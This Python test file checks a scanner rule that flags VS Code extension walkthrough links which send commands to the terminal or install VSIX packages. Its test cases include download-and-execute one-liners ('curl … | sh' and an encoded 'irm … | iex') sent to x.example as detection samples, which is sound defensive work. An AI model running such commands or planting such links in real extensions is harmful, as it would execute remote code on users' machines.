"""Commands behind links of walkthroughs."""

from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.analysis import analyse_extension
from tests.offline import found
from vscan.model import Severity

RULE = "walkthrough-command"
TYPES = "command:workbench.action.terminal.sendSequence?"


def walkthrough(description: str) -> dict[str, Any]:
    steps = [{"id": "a", "title": "Start", "description": description, "media": {}}]
    return {"contributes": {"walkthroughs": [{"id": "w", "title": "W", "steps": steps}]}}


@pytest.mark.parametrize(
    ("link", "severity"),
    [
        (TYPES + quote('{"text":"curl -s https://x.example/i|sh\\n"}'), Severity.HIGH),
        (TYPES + "%7B%22text%22%3A%22irm%20x.example%20%7C%20iex%5Cr%22%7D", Severity.HIGH),
        (TYPES + quote('{"text":"npm run setup\\u000d"}'), Severity.MEDIUM),
        ("command:workbench.extensions.command.installFromVSIX?%5B%22a%22%5D", Severity.HIGH),
        ("command:workbench.extensions.action.installVSIX", Severity.HIGH),
    ],
)
def test_a_link_that_runs_something_is_found(tmp_path: Path, link: str, severity: Severity) -> None:
    manifest = walkthrough(f"Welcome!\n[Set up]({link})")
    (finding,) = analyse_extension(tmp_path, **manifest).of(RULE)
    assert (finding.severity, finding.file) == (severity, "package.json")
    (finding,) = analyse_extension(
        tmp_path / "b", {"package.nls.json": f'{{"a": "[Set up]({link})"}}'}
    ).of(RULE)
    assert finding.severity is severity
    assert found(f"# Step\n\n[Set up]({link})\n", "media/step.md") == {RULE: Severity(severity - 1)}


@pytest.mark.parametrize(
    "link",
    [
        "command:workbench.action.openSettings?%5B%22acme%22%5D",
        "command:workbench.extensions.installExtension?%22acme.tools%22",
        "command:workbench.view.extension.acme",
        "command:acme.signIn",
        "command:workbench.action.terminal.new",
        TYPES + quote('{"text":"acme --help"}'),  # it waits for the return key
        "https://acme.example/workbench.action.terminal.sendSequence",
    ],
)
def test_an_ordinary_link_is_not_found(tmp_path: Path, link: str) -> None:
    assert not analyse_extension(tmp_path, **walkthrough(f"[Open]({link})")).of(RULE)
